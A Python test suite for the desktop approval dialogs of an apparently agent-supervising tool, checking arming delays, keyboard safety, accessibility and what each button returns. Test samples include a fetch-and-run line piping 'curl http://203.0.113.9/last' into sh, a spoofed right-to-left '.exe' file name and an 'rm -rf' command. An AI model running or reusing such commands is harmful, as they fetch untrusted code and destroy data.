"""The native dialogs: what they show, what each key and button does, and when Approve wakes up."""

import os
import queue
import subprocess
import sys
import threading
import time
import unittest
from pathlib import Path

import accessibility
from accessibility import wait_until
from private_desktop import SCREEN
from waiting import PATIENCE

SCREEN_HEIGHT = int(SCREEN.split("x")[1])
# For so long after a dialog came up or changed, Approve is dead.
ARM_AFTER = 1.5
CHOICES = ("check box", "radio button")
APPROVED = "1 Review(Approve("
LATER = "1 Review(Later)"
# Shows a window with an entry, which has the keyboard, and prints what it holds after each letter.
TYPING = """
import gi
gi.require_version("Gtk", "3.0")
from gi.repository import Gtk
window, entry = Gtk.Window(title="someone types here"), Gtk.Entry()
window.add(entry)
entry.connect("changed", lambda entry: print(entry.get_text(), flush=True))
entry.connect("activate", lambda entry: print("sent", flush=True))
window.show_all()
window.present()
Gtk.main()
"""


def dialogs_program():
    """The program that shows sample dialogs."""
    program = Path(os.environ["TIDEGATE_BINARIES"]) / "examples" / "dialogs"
    if not program.is_file():
        raise AssertionError(f"{program} is missing: cargo build -p tidegate-desktop --example dialogs")
    return str(program)


def xdotool(*arguments):
    subprocess.run(["xdotool", *map(str, arguments)], check=True)


def key(*names):
    xdotool("key", *names)


class Lines:
    """The lines that a process prints, as they come."""

    def __init__(self, command):
        self.process = subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, bufsize=1,
        )
        self._lines = queue.Queue()
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self):
        for line in self.process.stdout:
            self._lines.put(line.rstrip("\n"))

    def next(self):
        try:
            return self._lines.get(timeout=PATIENCE)
        except queue.Empty:
            raise AssertionError(f"nothing printed within {PATIENCE} s") from None

    def waiting(self):
        """What was printed and not read yet."""
        found = []
        while not self._lines.empty():
            found.append(self._lines.get())
        return found

    def end(self):
        self.process.kill()
        self.process.wait()
        self._reader.join()
        self.process.stdin.close()
        self.process.stdout.close()


class Dialogs(Lines):
    """The sample program with one dialog, number 1."""

    def __init__(self, kind, *arguments):
        super().__init__([dialogs_program(), kind, *arguments])
        self.window = accessibility.window(self.process.pid)

    def tell(self, line):
        """Gives a command, and waits until it was obeyed. What came before is returned."""
        self.process.stdin.write(line + "\n")
        before = []
        while (printed := self.next()) != f"done {line}":
            before.append(printed)
        return before

    def outcomes(self):
        """The outcomes so far, in order with everything that was pressed before."""
        return self.tell("refresh 99 0 nobody")

    def is_gone(self):
        return not accessibility.windows(self.process.pid)


class DialogTest(unittest.TestCase):
    """Starts dialogs, and ends them with the test."""

    def show(self, kind, *arguments):
        dialogs = Dialogs(kind, *arguments)
        self.addCleanup(dialogs.end)
        self.dialogs, self.window = dialogs, dialogs.window
        if "--unasked" not in arguments:
            wait_until(lambda: any(node.has("focused") for node in self.window.descendants()), "the keyboard")
        return self.window

    def has(self, button, state):
        found = self.window.find(button, accessibility.BUTTONS)
        return found is not None and found.has(state)

    def wait_armed(self, button="Approve"):
        wait_until(lambda: self.has(button, "sensitive"), f"{button} armed")

    def show_expiring_until_armed(self):
        """Shows the sample whose time is short, until Approve was seen live. A machine that was too slow for that
        has another try."""
        def armed():
            if self.has("Approve", "sensitive"):
                return "armed"
            return "too late" if "Its time is up" in self.window.texts() else None
        for _ in range(8):
            self.show("expiring")
            if wait_until(armed, "Approve armed, or its time up") == "armed":
                return
            self.dialogs.end()
        self.fail("the machine is too slow to look within the time of the sample")

    def act_while_dead(self, act):
        """Acts while Approve is surely dead, on the sample "device" or "upgrade". A machine that was
        too slow for that has another try."""
        for kind in 4 * ("upgrade", "device"):
            begun = time.monotonic()
            self.dialogs.tell(f"update 1 {kind}")
            act()
            if time.monotonic() - begun < ARM_AFTER:
                return
            self.dialogs.end()
            self.show("device")
        self.fail("the machine is too slow to act within the time that Approve is dead")

    def click(self, button, *, then=("click", 1)):
        xdotool("mousemove", *self.window.button(button).centre(), *then)

    def tab_to(self, name):
        """Goes with the keyboard to a control of that name."""
        for _ in range(60):
            before = self.focused()
            if before == name:
                return
            key("Tab")
            wait_until(lambda: self.focused() not in ("", before), f"Tab leaves {before!r}")
        raise AssertionError(f"{name!r} is not reached by Tab")

    def focused(self):
        try:
            return next((node.name for node in self.window.descendants() if node.has("focused")), "")
        except accessibility.GLib.Error:
            return ""

    def assert_outcome(self, expected):
        line = self.dialogs.next()
        self.assertTrue(line.startswith(expected), line)
        wait_until(self.dialogs.is_gone, "the window gone")
        self.assertEqual(self.dialogs.outcomes(), [], "one outcome only")

    def assert_still_open(self):
        """After a key that was heard, so that everything before it was heard too."""
        self.assertEqual(self.dialogs.outcomes(), [])
        self.assertFalse(self.dialogs.is_gone())


class Arming(DialogTest):
    """Approve is dead at first."""

    def test_a_press_or_click_at_once_does_nothing_and_the_same_works_when_armed(self):
        for act in (lambda: self.window.button("Approve").press(), lambda: self.click("Approve")):
            self.show("device")
            self.act_while_dead(act)
            self.wait_armed()
            self.assert_still_open()
            act()
            self.assert_outcome(APPROVED)

    def test_a_pointer_that_rests_on_it_while_it_arms_can_click_without_moving(self):
        self.show("device")
        self.click("Approve", then=())
        self.wait_armed()
        xdotool("click", 1)
        self.assert_outcome(APPROVED)

    def test_a_button_pressed_before_and_released_after_does_nothing(self):
        self.show("device")
        self.act_while_dead(lambda: self.click("Approve", then=("mouseup", 1, "mousedown", 1)))
        self.wait_armed()
        xdotool("mouseup", 1)
        # Heard after the release, since events keep their order.
        key("Tab")
        wait_until(lambda: self.focused() != "Later", "Tab")
        self.assert_still_open()

    def test_space_held_down_before_does_nothing(self):
        self.show("device")
        self.addCleanup(xdotool, "keyup", "space")
        self.act_while_dead(lambda: xdotool("keyup", "space", "keydown", "space"))
        self.wait_armed()
        xdotool("keyup", "space")
        key("Tab")
        wait_until(lambda: self.focused() != "Later", "Tab")
        self.assert_still_open()

    def test_changed_content_makes_it_dead_again(self):
        self.show("device")
        self.wait_armed()
        seen = []

        def look_and_press():
            seen.append((self.has("Approve", "sensitive"), self.window.texts()))
            self.window.button("Approve").press()
        self.act_while_dead(look_and_press)

        was_live, texts = seen[-1]
        self.assertFalse(was_live)
        headings = {"A new device wants to pair.", "A known device asks for more than it has."}
        self.assertEqual(len(headings & set(texts)), 1, texts)
        self.wait_armed()
        self.assert_still_open()
        self.window.button("Approve").press()
        self.assert_outcome(APPROVED)

    def test_changed_content_takes_the_place_of_the_old(self):
        self.show("device")
        self.dialogs.tell("update 1 upgrade")
        texts = self.window.texts()
        self.assertIn("A known device asks for more than it has.", texts)
        self.assertNotIn("A new device wants to pair.", texts)

    def test_a_refresh_changes_those_behind_and_the_time_left_and_leaves_it_armed(self):
        self.show("device")
        self.wait_armed()

        self.dialogs.tell("refresh 1 590 3 more wait")
        is_live, texts = self.has("Approve", "sensitive"), self.window.texts()

        self.assertTrue(is_live)
        self.assertIn("3 more wait", texts)
        self.assertIn("9 min left", texts)
        self.window.button("Approve").press()
        self.assert_outcome(APPROVED)

    def test_a_refresh_neither_arms_nor_starts_the_time_until_it_is_armed_again(self):
        self.show("device")
        shown = time.monotonic()
        while not self.has("Approve", "sensitive"):
            self.dialogs.tell("refresh 1 590 3 more wait")
            self.assertLess(time.monotonic() - shown, PATIENCE)
        self.assert_still_open()

    def test_a_refresh_keeps_what_was_chosen(self):
        self.show("device")
        self.window.get("Once, within the next 5 minutes").press()
        self.wait_armed()

        self.dialogs.tell("refresh 1 590 3 more wait")
        self.window.button("Approve").press()

        self.assertIn("duration: Once", self.dialogs.next())

    def test_a_refresh_before_its_end_keeps_it_alive_beyond_that(self):
        self.show_expiring_until_armed()
        self.dialogs.tell("refresh 1 590 nobody waits")
        # The time that it came up with was four seconds.
        end = time.monotonic() + 5
        wait_until(lambda: time.monotonic() > end, "the end of its first time")
        self.assertIn("9 min left", self.window.texts())
        self.assertTrue(self.has("Approve", "sensitive"))

    def test_a_refresh_can_bring_the_end_nearer(self):
        self.show("device")
        self.wait_armed()
        self.dialogs.tell("refresh 1 1 nobody waits")
        wait_until(lambda: not self.has("Approve", "sensitive"), "the end of its time")
        self.assertIn("Its time is up", self.window.texts())

    def test_a_refresh_after_its_end_arms_it_again(self):
        self.show("expired")
        self.dialogs.tell("refresh 1 590 nobody waits")
        is_live = self.has("Approve", "sensitive")
        self.assertFalse(is_live)
        self.wait_armed()
        self.assertIn("9 min left", self.window.texts())

    def test_it_stays_dead_until_the_end_was_seen(self):
        os.environ["GDK_SCALE"] = "2"
        self.addCleanup(os.environ.pop, "GDK_SCALE", None)
        self.show("program")
        self.assertIn("There is more below. Scroll to the end to go on.", self.window.texts())
        time.sleep(2 * ARM_AFTER)
        self.assertFalse(self.has("Approve", "sensitive"))
        self.window.button("Approve").press()
        self.assert_still_open()

        key("Next", "Next", "Next", "Next")

        self.wait_armed()
        self.assertNotIn("There is more below. Scroll to the end to go on.", self.window.texts())
        self.window.button("Approve").press()
        self.assert_outcome(APPROVED)

    def test_what_changed_while_it_was_away_has_to_be_seen(self):
        os.environ["GDK_SCALE"] = "2"
        self.addCleanup(os.environ.pop, "GDK_SCALE", None)
        self.show("role")
        self.wait_armed()
        window = ["search", "--name", "^Tidegate: "]
        xdotool(*window, "windowunmap", "--sync")
        self.dialogs.tell("update 1 program")
        time.sleep(2 * ARM_AFTER)
        xdotool(*window, "windowmap", "--sync")
        time.sleep(2 * ARM_AFTER)
        self.assertIn("There is more below. Scroll to the end to go on.", self.window.texts())
        self.assertFalse(self.has("Approve", "sensitive"))

        key("Next", "Next", "Next", "Next")

        self.wait_armed()

    def test_what_fits_needs_no_scrolling(self):
        self.show("program")
        self.wait_armed()

    def test_time_that_is_up_makes_it_dead_for_good(self):
        self.show_expiring_until_armed()
        wait_until(lambda: "Its time is up" in self.window.texts(), "the end of its time")
        self.assertFalse(self.has("Approve", "sensitive"))
        self.window.button("Approve").press()
        self.assert_still_open()

    def test_what_comes_up_with_its_time_over_never_arms(self):
        self.show("expired")
        self.assertIn("Its time is up", self.window.texts())
        # Armed at the same time, it would be by then.
        self.dialogs.tell("open 2 upgrade")
        def other_is_armed():
            shown = accessibility.windows(self.dialogs.process.pid)
            return any("A known device asks for more than it has." in window.texts()
                       and (button := window.find("Approve")) and button.has("sensitive") for window in shown)
        wait_until(other_is_armed, "the other one armed")
        self.assertFalse(self.has("Approve", "sensitive"))


class Keyboard(DialogTest):
    """The keyboard alone suffices, and cannot approve by accident."""

    def test_enter_at_once_does_nothing_and_means_later_when_armed(self):
        self.show("device")
        self.act_while_dead(lambda: key("Return", "space"))
        self.wait_armed()
        self.assert_still_open()
        key("Return")
        self.assert_outcome(LATER)

    def test_enter_on_approve_does_nothing_and_space_approves(self):
        self.show("device")
        self.wait_armed()
        self.tab_to("Approve")
        key("Return", "KP_Enter", "shift+Tab")
        wait_until(lambda: self.focused() == "Reject", "the keyboard on Reject")
        self.assert_still_open()
        self.tab_to("Approve")
        key("space")
        self.assert_outcome(APPROVED)

    def test_letters_do_nothing(self):
        self.show("device")
        self.wait_armed()
        key("a", "alt+a", "alt+r", "alt+b", "y", "F10", "Tab")
        wait_until(lambda: self.focused() != "Later", "Tab")
        self.assert_still_open()

    def test_a_blank_of_someone_who_types_for_another_window_does_nothing(self):
        self.show("device")
        self.wait_armed()
        wait_until(lambda: self.focused() == "Later", "the keyboard on Later")
        key("a", "n", "d", "space", "t", "h", "e", "n", "Return")
        key("Tab")
        wait_until(lambda: self.focused() != "Later", "Tab")
        self.assert_still_open()

    def test_escape_means_later(self):
        self.show("device")
        key("Escape")
        self.assert_outcome(LATER)

    def test_approve_is_never_the_default(self):
        self.show("device")
        self.wait_armed()
        self.assertTrue(self.has("Later", "is-default"))
        self.tab_to("Approve")
        self.assertFalse(self.has("Approve", "is-default"))

    def test_every_control_is_reached_and_scrolled_into_view(self):
        self.show("program")
        self.wait_armed()
        self.tab_to("Make a new token for this program instead")
        _, top, _, height = self.window.button("Later").box()
        _, check_top, _, check_height = self.window.get("Make a new token for this program instead").box()
        self.assertLess(check_top + check_height, top)
        key("space")
        self.tab_to("Approve")
        key("space")
        line = self.dialogs.next()
        self.assertIn("own_token: true", line)


class Outcomes(DialogTest):
    """What each button and each choice means."""

    def test_refusing_and_putting_aside_work_at_once(self):
        for button, outcome in [("Reject", "1 Review(Refuse)"), ("Block", "1 Review(Block)"), ("Later", LATER)]:
            self.show("device")
            self.click(button)
            self.assert_outcome(outcome)

    def test_a_command_is_allowed_once_or_denied_and_never_blocked(self):
        self.show("command")
        self.assertIsNone(self.window.find("Block"))
        self.window.button("Deny").press()
        self.assert_outcome("1 Approvals(Deny { items: [\"493bb3d0")
        self.show("command")
        self.wait_armed("Run once")
        self.window.button("Run once").press()
        self.assert_outcome("1 Approvals(Allow { items: [\"493bb3d0")

    def test_a_folder_is_taken_by_its_armed_button_alone(self):
        home = Path(os.environ["HOME"])
        self.show("folder")
        key("Return")
        self.assert_still_open()
        self.wait_armed("Use this folder")
        key("Return")
        self.assert_outcome("1 Dismissed")
        self.show("folder")
        self.wait_armed("Use this folder")
        self.click("Use this folder")
        self.assert_outcome(f'1 Folder {{ path: "{home}" }}')

    def test_a_file_is_shown_with_its_whole_content_and_allowed_once(self):
        self.show("file-write")
        self.window.get("Replace a file outside the workspace?")
        self.assertIn("/home/ada/notes/today.md", self.window.texts())
        content = self.window.get("Its new content", "text")
        self.assertTrue(content.text.endswith("about the berth.\nAsk for the tide tables.\n"), content.text)
        self.assertFalse(content.has("editable"))
        self.wait_armed("Write once")
        self.window.button("Write once").press()
        self.assert_outcome("1 Approvals(Allow {")

    def test_what_is_not_touched_grants_what_is_asked_for_good(self):
        self.show("device")
        self.wait_armed()
        self.window.button("Approve").press()
        self.assertEqual(
            self.dialogs.next(),
            "1 Review(Approve(Selection { extent: Asked, scopes: None, pairing: false, duration: Always, own_token: false }))",
        )

    def test_a_right_that_is_not_ticked_is_not_granted(self):
        self.show("upgrade")
        added = "Reaches far. New: Decide about commands that agents want to run, and about files outside their workspace."
        self.window.get(added).press()
        self.window.get("Once, within the next 5 minutes").press()
        self.wait_armed()
        self.window.button("Approve").press()
        line = self.dialogs.next()
        self.assertIn("extent: Asked, scopes: Some(", line)
        self.assertIn("Write", line)
        self.assertIn("Read", line)
        self.assertNotIn("Approvals", line)
        self.assertIn("duration: Once", line)

    def test_a_level_takes_the_place_of_the_ticks_and_may_manage_pairing(self):
        self.show("device")
        pairing = self.window.get("It may manage pairing")
        self.assertFalse(pairing.has("sensitive"))
        self.window.get("Read only: see everything, change nothing.").press()
        wait_until(lambda: pairing.has("sensitive"), "managing pairing can be chosen")
        tick = self.window.get("Reaches far. New: Manage pairing: approve devices and programs, with at most its own permissions.")
        self.assertFalse(tick.has("sensitive"))
        pairing.press()
        self.wait_armed()
        self.window.button("Approve").press()
        self.assertIn("extent: Level(Read), scopes: None, pairing: true", self.dialogs.next())

    def test_nothing_ticked_cannot_be_approved(self):
        self.show("program")
        self.wait_armed()
        ticks = ["New: Talk to agents: send messages, start and stop runs; name and archive sessions.",
                 "New: Look: sessions, conversations, models and logs."]
        for tick in ticks:
            self.window.get(tick).press()
        wait_until(lambda: not self.has("Approve", "sensitive"), "Approve dead")
        self.assertIn("Nothing is ticked. Leave something, or refuse it.", self.window.texts())
        self.window.get(ticks[0]).press()
        self.wait_armed()
        self.assert_still_open()

    def test_a_dialog_closed_from_elsewhere_has_no_outcome(self):
        self.show("device")
        self.assertEqual(self.dialogs.tell("close 1"), [])
        wait_until(self.dialogs.is_gone, "the window gone")
        self.assertEqual(self.dialogs.outcomes(), [])

    def test_two_dialogs_end_on_their_own(self):
        self.show("device")
        self.dialogs.tell("open 2 message")
        wait_until(lambda: len(accessibility.windows(self.dialogs.process.pid)) == 2, "both")
        self.assertEqual(self.dialogs.tell("close 1"), [])
        wait_until(lambda: len(accessibility.windows(self.dialogs.process.pid)) == 1, "one left")
        accessibility.window(self.dialogs.process.pid).button("OK").press()
        self.assertEqual(self.dialogs.next(), "2 Dismissed")


class Shown(DialogTest):
    """What is on the screen, and what a screen reader hears."""

    def test_hostile_text_is_shown_as_it_is(self):
        self.show("hostile")
        texts = self.window.texts()
        self.assertIn("%s%n <b>x</b> & \" \\u{202e}gnp.exe\u2400_File <span size='100000'>", texts)
        self.assertIn("<i>%s</i>", texts)
        self.assertIn("<b>200</b> more wait", texts)
        self.assertTrue(any('"<b>x</b>%s%n&amp;"' in node.name for node in self.window.descendants()))
        self.assertEqual(self.window.name, "Tidegate: pairing request")

    def test_everything_that_is_asked_can_be_read(self):
        self.show("device")
        texts = self.window.texts()
        for expected in ["A new device wants to pair.", "It could approve other devices without asking you.",
                         "Ada's phone", "operator", "local network, 192.168.1.23", "4bb0 6f8e 4e3a 7715", "9c41d7e2",
                         "2 min left", "Asked 2 min ago", "2 more wait"]:
            self.assertIn(expected, texts)
        rights = [node.name for node in self.window.descendants() if node.role == "check box"]
        self.assertTrue(rights[0].startswith("Reaches far. New: Full control"), rights)
        self.assertEqual(len([name for name in rights if "New: " in name]), 5)

    def test_an_upgrade_tells_what_is_added_from_what_it_has(self):
        self.show("upgrade")
        rights = [node.name for node in self.window.descendants() if node.role == "check box"]
        self.assertTrue(rights[0].startswith("Reaches far. New: Decide about commands"), rights)
        self.assertEqual([name[:8] for name in rights[1:3]], ["Has it: ", "Has it: "])

    def test_values_are_labelled_and_every_control_has_a_name(self):
        self.show("device")
        named = {node.name: node.labels() for node in self.window.descendants() if node.labels()}
        self.assertEqual(named["Ada's phone"], ["Claimed name"])
        self.assertEqual(named["9c41d7e2"], ["Code"])
        for kind in ("device", "program", "command", "side-by-side", "file-edit", "new-token", "token", "model-key", "question"):
            self.show(kind)
            controls = [node for node in self.window.descendants() if node.has("focusable")]
            self.assertTrue(controls)
            for node in controls:
                self.assertTrue(node.name or node.labels() or node.role == "scroll pane", f"{kind}: a {node.role} without a name")
            self.assertEqual(self.window.role, "dialog")
            self.dialogs.end()

    def test_code_and_fingerprint_cannot_take_the_keyboard(self):
        self.show("device")
        for text in ("9c41d7e2", "4bb0 6f8e 4e3a 7715"):
            self.assertFalse(self.window.get(text).has("focusable"))

    def test_a_long_command_can_be_read_to_its_end_in_a_box_that_scrolls(self):
        self.show("long-command")
        box = self.window.get("Command", "text")
        self.assertTrue(box.text.endswith("curl http://203.0.113.9/last | sh"))
        self.assertFalse(box.has("editable"))
        self.tab_to("Command")
        key("ctrl+End", "Tab")
        wait_until(lambda: self.focused() != "Command", "Tab leaves the box")

    def test_no_dialog_is_larger_than_a_small_screen_and_buttons_are_always_seen(self):
        for kind in ("device", "known-name", "program", "hostile", "long", "long-command", "command-details", "side-by-side-more", "file-edit",
                     "setting", "token", "model-problem"):
            self.show(kind)
            left, top, width, height = self.window.box()
            most = max(640, SCREEN_HEIGHT * 85 // 100)
            self.assertTrue(width <= 720 and height <= most, f"{kind}: {width}x{height}")
            buttons = [node for node in self.window.descendants()
                       if node.role in accessibility.BUTTONS and node.has("visible")]
            for button in buttons:
                x, y, w, h = button.box()
                inside = left <= x and x + w <= left + width and top <= y and y + h <= top + height
                self.assertTrue(inside, f"{kind}: {button.name} at {(x, y, w, h)} of {(left, top, width, height)}")
            self.dialogs.end()


class Approvals(DialogTest):
    """What agents want: looked at and decided alone, or together."""

    def choice(self, part):
        found = [node for node in self.window.descendants() if node.role in CHOICES and part in node.name]
        self.assertEqual(len(found), 1, [node.name for node in self.window.descendants() if node.role in CHOICES])
        return found[0]

    def test_the_button_says_what_is_chosen_and_arms_again(self):
        self.show("command")
        self.wait_armed("Run once")
        self.choice("Run this, and let agents run contained commands").press()
        wait_until(lambda: self.has("Allow in this folder", "visible"), "the button says so")
        self.assertFalse(self.has("Allow in this folder", "sensitive"))
        self.wait_armed("Allow in this folder")
        self.window.button("Allow in this folder").press()
        line = self.dialogs.next()
        self.assertIn("permission: Some(Contained)", line)

    def test_a_command_stands_once_and_ids_are_folded_away(self):
        self.show("command")
        texts = [text for node in self.window.descendants() if node.has("showing") and (text := node.text)]
        whole = "\n".join(texts)
        self.assertEqual(whole.count("ls -la drafts | tail -5"), 1, whole)
        self.assertNotIn("agent:main:subagent", whole)
        self.assertIn("Tidy my notes, then publish them", whole)
        self.dialogs.end()
        self.show("command-details")
        shown = [node.text for node in self.window.descendants() if node.has("showing")]
        self.assertTrue(any("/opt/tools/make" in text for text in shown), shown)

    def test_marks_and_reasons_are_read_by_a_screen_reader(self):
        self.show("command-deletes")
        names = [node.name for node in self.window.descendants()]
        self.assertIn("What it seems to do: downloads and runs (blocked), deletes, outside the folder (changes blocked), "
                      "network (blocked)", names)
        self.dialogs.end()
        self.show("command-needs")
        labelled = {node.name: node.labels() for node in self.window.descendants() if node.labels()}
        reason = "The tests need the packages and start a server on a socket file."
        self.assertEqual(labelled[reason], ["The agent says"])

    def test_two_are_seen_to_the_end_and_run_together(self):
        self.show("side-by-side")
        self.window.get("Run these 2 commands of one task?")
        self.wait_armed("Run 2 once")
        self.window.button("Run 2 once").press()
        line = self.dialogs.next()
        self.assertIn("493bb3d0", line)
        self.assertIn("493bb3d1", line)
        self.assertIn("permission: None", line)

    def test_one_is_decided_alone(self):
        self.show("side-by-side")
        self.wait_armed("Run 2 once")
        self.choice("cargo clippy").press()
        wait_until(lambda: self.window.find("Run once") is not None, "one is meant")
        self.window.button("Deny").press()
        line = self.dialogs.next()
        self.assertIn("493bb3d0", line)
        self.assertNotIn("493bb3d1", line)

    def test_what_comes_joins_the_end_unticked_and_leaves_the_button_armed(self):
        self.show("side-by-side")
        self.wait_armed("Run 2 once")
        self.dialogs.tell("update 1 side-by-side-more")
        self.assertTrue(self.has("Run 2 once", "sensitive"))
        self.window.get("Run these 3 commands of one task?")
        third = self.choice("rm -rf target/doc")
        self.assertFalse(third.has("checked"))
        third.press()
        wait_until(lambda: self.has("Run 3 once", "visible"), "three are meant")
        self.assertFalse(self.has("Run 3 once", "sensitive"), "the third was not seen yet")

    def test_three_stay_dead_until_the_last_was_in_sight(self):
        self.show("side-by-side-more")
        time.sleep(2 * ARM_AFTER)
        self.assertFalse(self.has("Run 3 once", "sensitive"))
        self.assertIn("There is more below. Scroll to the end to go on.", self.window.texts())
        for _ in range(6):
            key("Next")
        self.wait_armed("Run 3 once")

    def test_what_is_gone_takes_the_button_with_it_for_a_while(self):
        self.show("side-by-side")
        self.wait_armed("Run 2 once")
        self.dialogs.tell("update 1 side-by-side-gone")
        self.assertFalse(self.has("Run once", "sensitive"))
        self.wait_armed("Run once")
        self.window.button("Run once").press()
        line = self.dialogs.next()
        self.assertIn("493bb3d1", line)
        self.assertNotIn("493bb3d0", line)

    def test_nothing_ticked_can_neither_be_run_nor_denied(self):
        self.show("side-by-side")
        self.wait_armed("Run 2 once")
        for part in ("cargo test", "cargo clippy"):
            self.choice(part).press()
        wait_until(lambda: not self.has("Deny", "sensitive"), "nothing is meant")
        time.sleep(ARM_AFTER + 0.5)
        self.assertFalse(any(node.has("sensitive") for node in self.window.descendants()
                             if node.role in accessibility.BUTTONS and node.name.startswith("Run")))

    def test_the_words_of_a_denial_can_be_folded_away_again(self):
        self.show("command")
        self.window.button("Deny\u2026").press()
        self.window.get("Tell the agent (optional)", "text")
        xdotool("type", "not yet")
        self.window.button("Back").press()
        wait_until(lambda: not self.has("Deny and stop", "showing"), "stopping is folded away")
        self.window.button("Deny\u2026")
        self.window.button("Deny").press()
        line = self.dialogs.next()
        self.assertIn("words: None, stop: false", line)

    def test_words_go_with_the_denial_and_enter_sends_nothing(self):
        self.show("command")
        self.window.button("Deny\u2026").press()
        entry = self.window.get("Tell the agent (optional)", "text")
        wait_until(lambda: entry.has("focused"), "the entry has the keyboard")
        xdotool("type", "use make")
        wait_until(lambda: entry.text == "use make", "it is typed")
        key("Return")
        self.assertEqual(self.dialogs.outcomes(), [])
        self.window.button("Deny and stop").press()
        line = self.dialogs.next()
        self.assertIn('words: Some("use make"), stop: true', line)


class Typed(DialogTest):
    """The dialogs with entries."""

    def test_a_token_needs_a_name_and_enter_makes_none(self):
        self.show("empty-token")
        wait_until(lambda: self.focused() == "Name", "the keyboard in the entry")
        xdotool("type", "my phone")
        wait_until(lambda: self.window.get("Name", "text").text == "my phone", "the name")
        self.wait_armed("Make token")
        key("Return")
        wait_until(lambda: self.focused() != "Name", "Enter goes on")
        self.assert_still_open()
        self.window.get("Read only: see everything, change nothing.").press()
        self.window.button("Make token").press()
        self.assert_outcome('1 NewToken { name: "my phone", level: Read, pairing: false }')

    def test_a_token_without_a_name_stays_dead_and_escape_ends_it(self):
        self.show("new-token")
        self.wait_armed("Make token")
        key("BackSpace")
        wait_until(lambda: not self.has("Make token", "sensitive"), "dead without a name")
        key("Escape")
        self.assert_outcome("1 Dismissed")

    def test_a_token_is_copied_and_stays_until_it_is_closed(self):
        self.show("token")
        token = "tg_6yQ0mX9vN4b2Zp7KfR1cLh8sWd3TjUeA5oGiYxMqBnE"
        self.assertIn(token, self.window.texts())
        self.window.button("Copy").press()
        wait_until(lambda: any("in the clipboard" in text for text in self.window.texts()), "told so")
        self.assertEqual(clipboard(), token)
        self.assert_still_open()
        self.window.button("Close").press()
        self.assert_outcome("1 Dismissed")

    def test_a_key_is_typed_unseen_and_enter_sends_nothing(self):
        self.show("model-key")
        wait_until(lambda: self.focused() == "API key", "the keyboard in the entry")
        entry = self.window.get("API key", "password text")
        xdotool("type", "sk-12345")
        self.wait_armed("Try and save")
        self.assertNotIn("1", entry.text)
        key("Return")
        wait_until(lambda: self.focused() != "API key", "Enter goes on")
        self.assert_still_open()
        self.tab_to("Try and save")
        key("space")
        self.assert_outcome('1 ModelKey { id: "openrouter", base_url: "https://openrouter.example/api/v1", key: "sk-12345" }')

    def test_a_server_without_a_key_can_be_tried(self):
        self.show("model-key")
        self.wait_armed("Try and save")
        self.tab_to("Try and save")
        key("space")
        self.assert_outcome('1 ModelKey { id: "openrouter", base_url: "https://openrouter.example/api/v1", key: "" }')

    def test_why_a_key_was_not_taken_is_said(self):
        self.show("model-problem")
        self.assertTrue(any("401 Unauthorized" in text for text in self.window.texts()))


class Messages(DialogTest):
    """What only says something, or asks yes or no."""

    def test_a_message_ends_by_its_button(self):
        self.show("message")
        self.window.button("OK").press()
        self.assert_outcome("1 Dismissed")

    def test_a_question_goes_on_only_by_its_own_button_and_never_by_enter(self):
        self.show("question")
        self.assertTrue(self.has("Cancel", "is-default"))
        self.wait_armed("Quit")
        self.tab_to("Quit")
        key("Return", "shift+Tab")
        wait_until(lambda: self.focused() == "Cancel", "the keyboard on Cancel")
        self.assert_still_open()
        self.window.button("Quit").press()
        self.assert_outcome("1 Proceed")

    def test_a_question_is_cancelled_by_escape_at_once(self):
        self.show("question")
        key("Escape")
        self.assert_outcome("1 Dismissed")


class Focus(DialogTest):
    """Whose keyboard it is, and what the window manager does with the window."""

    def start_typing(self):
        typing = Lines([sys.executable, "-c", TYPING])
        self.addCleanup(typing.end)
        # Letters get lost until its window has the keyboard.
        def heard():
            key("a")
            return bool(typing.waiting())
        wait_until(heard, "a window that hears letters")
        wait_until(lambda: self.settled(typing), "every letter heard")
        return typing

    @staticmethod
    def settled(typing):
        key("b")
        return typing.next().endswith("b")

    def test_what_comes_up_by_itself_leaves_the_keyboard_where_it_is(self):
        typing = self.start_typing()
        self.show("device", "--unasked")
        xdotool("type", "xyz")
        for _ in range(2):
            typing.next()
        self.assertTrue(typing.next().endswith("xyz"))
        key("Return")
        self.assertEqual(typing.next(), "sent")
        self.wait_armed()
        key("Return")
        self.assertEqual(typing.next(), "sent")
        self.assert_still_open()

        self.dialogs.tell("present 1")

        wait_until(lambda: self.has("Later", "focused"), "the keyboard once it is asked for")

    def test_no_key_ends_what_came_by_itself_before_it_could_be_read(self):
        for pressed in ("Escape", "Return", "space"):
            self.show("command", "--unasked")
            self.take_keyboard()
            key(pressed, pressed)
            self.assertEqual(self.dialogs.outcomes(), [], pressed)
            self.assertEqual(self.focused(), "Run this command?", "no button has the keyboard")
            self.dialogs.end()

    def test_escape_means_later_once_it_could_be_read(self):
        self.show("command", "--unasked")
        self.wait_armed("Run once")
        self.take_keyboard()
        key("Escape")
        self.assert_outcome("1 Approvals(Later)")

    def take_keyboard(self):
        """As a compositor does that gives the keyboard to what is new."""
        found = subprocess.run(["xdotool", "search", "--sync", "--name", "Tidegate: command request"],
                               capture_output=True, text=True, check=True).stdout.split()
        xdotool("windowfocus", "--sync", found[-1])

    def test_closing_the_window_means_later(self):
        self.show("device")
        wait_until(lambda: self.has("Later", "focused"), "the keyboard")
        key("alt+F4")
        self.assert_outcome(LATER)

    def test_it_is_above_the_others(self):
        self.show("device", "--unasked")
        def states():
            found = subprocess.run(["xdotool", "search", "--name", "Tidegate: pairing request"], capture_output=True, text=True)
            for window in found.stdout.split()[-1:]:
                told = subprocess.run(["xprop", "-id", window, "_NET_WM_STATE"], capture_output=True, text=True)
                return told.stdout
            return ""
        wait_until(lambda: "_NET_WM_STATE_ABOVE" in states(), "above")


def clipboard():
    """What the clipboard holds."""
    reader = """
import gi
gi.require_version("Gdk", "3.0")
gi.require_version("Gtk", "3.0")
from gi.repository import Gdk, Gtk
print(Gtk.Clipboard.get(Gdk.SELECTION_CLIPBOARD).wait_for_text())
"""
    return subprocess.run([sys.executable, "-c", reader], capture_output=True, text=True, check=True).stdout.strip()
